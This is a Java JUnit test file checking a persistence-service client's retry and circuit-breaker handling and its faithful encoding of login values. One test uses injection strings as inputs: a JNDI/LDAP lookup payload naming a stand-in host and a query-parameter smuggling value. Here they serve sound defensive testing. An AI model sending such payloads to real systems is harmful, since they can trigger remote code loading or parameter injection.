package dev.carrier.auth.remote;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.URI;
import java.net.URLDecoder;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.Executors;
import java.util.concurrent.atomic.AtomicInteger;

import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import io.github.resilience4j.bulkhead.BulkheadConfig;
import io.github.resilience4j.bulkhead.BulkheadRegistry;
import io.github.resilience4j.circuitbreaker.CallNotPermittedException;
import io.github.resilience4j.circuitbreaker.CircuitBreaker;
import io.github.resilience4j.circuitbreaker.CircuitBreakerConfig;
import io.github.resilience4j.circuitbreaker.CircuitBreakerRegistry;
import io.github.resilience4j.core.IntervalFunction;
import io.github.resilience4j.retry.RetryConfig;
import io.github.resilience4j.retry.RetryRegistry;
import io.github.resilience4j.timelimiter.TimeLimiterConfig;
import io.github.resilience4j.timelimiter.TimeLimiterRegistry;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import dev.carrier.testsupport.TestTrust;
import dev.carrier.auth.trust.Assertions;
import dev.carrier.auth.trust.TrustProperties;

/**
 * The read-through to persistence-service, against a real HTTP server standing in for it.
 */
class PersistenceClientTests {

	private final AtomicInteger requests = new AtomicInteger();

	/**
	 * The logins persistence-service was asked for, decoded as Tomcat decodes a query.
	 */
	private final List<String> askedFor = new CopyOnWriteArrayList<>();

	private HttpServer server;

	private PersistenceClient client;

	@BeforeEach
	void start() throws IOException {
		this.server = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
		this.server.setExecutor(Executors.newVirtualThreadPerTaskExecutor());
		this.server.createContext("/internal/users/by-login", (exchange) -> {
			this.requests.incrementAndGet();
			String query = exchange.getRequestURI().getRawQuery();
			this.askedFor.add(URLDecoder.decode(query.substring(query.indexOf('=') + 1), StandardCharsets.UTF_8));
			if (this.askedFor.getLast().startsWith("unknown")) {
				answer(exchange, 404, "{\"status\":404}");
				return;
			}
			answer(exchange, 400, "{\"status\":400,\"detail\":\"login: size must be between 0 and 320\"}");
		});
		this.server.start();
		URI url = URI.create("http://127.0.0.1:" + this.server.getAddress().getPort());
		// the production shape (application.yml): 3 attempts with backoff, a 50% circuit
		// over 20 calls
		ResilientCalls calls = new ResilientCalls(
				BulkheadRegistry
					.of(BulkheadConfig.custom().maxConcurrentCalls(8).maxWaitDuration(Duration.ofSeconds(2)).build()),
				RetryRegistry.of(RetryConfig.custom()
					.maxAttempts(3)
					.intervalFunction(IntervalFunction.ofExponentialBackoff(Duration.ofMillis(10), 2.0))
					.ignoreExceptions(CallNotPermittedException.class)
					.build()),
				CircuitBreakerRegistry.of(CircuitBreakerConfig.custom()
					.slidingWindowSize(20)
					.minimumNumberOfCalls(5)
					.failureRateThreshold(50)
					.build()),
				TimeLimiterRegistry.of(TimeLimiterConfig.custom().timeoutDuration(Duration.ofSeconds(2)).build()));
		this.client = new PersistenceClient(new ServiceUrls(url, "http://127.0.0.1:1"), calls,
				new Assertions(new TrustProperties(TestTrust.KEY, Duration.ofMinutes(5)), "auth-service"));
	}

	@AfterEach
	void stop() {
		this.server.stop(0);
	}

	@Test
	void loginsPersistenceRefusesToLookUpAreUnknownUsersAndNeverOpenTheCircuit() {
		for (int i = 0; i < 30; i++) {
			assertThat(this.client.findUserByLogin("x".repeat(400))).isEmpty();
		}

		assertThat(this.requests).as("a refused lookup is an answer: no retries").hasValue(30);
		assertThat(this.client.resilience().circuitBreaker().getState()).isEqualTo(CircuitBreaker.State.CLOSED);
	}

	@Test
	void aLoginReachesPersistenceExactlyAsTypedWhateverItsCharacters() {
		List<String> logins = List.of("unknown+tag@example.com", "unknown${jndi:ldap://evil.example/a}", "unknown{0}",
				"unknown&login=admin", "unknown%41 b=c", "unknowné漢");

		for (String login : logins) {
			assertThat(this.client.findUserByLogin(login)).as(login).isEmpty();
		}

		assertThat(this.askedFor).containsExactlyElementsOf(logins);
		assertThat(this.client.resilience().circuitBreaker().getMetrics().getNumberOfFailedCalls()).isZero();
	}

	private static void answer(HttpExchange exchange, int status, String body) throws IOException {
		byte[] bytes = body.getBytes(StandardCharsets.UTF_8);
		exchange.getResponseHeaders().set("Content-Type", "application/problem+json");
		exchange.sendResponseHeaders(status, bytes.length);
		exchange.getResponseBody().write(bytes);
		exchange.close();
	}

}
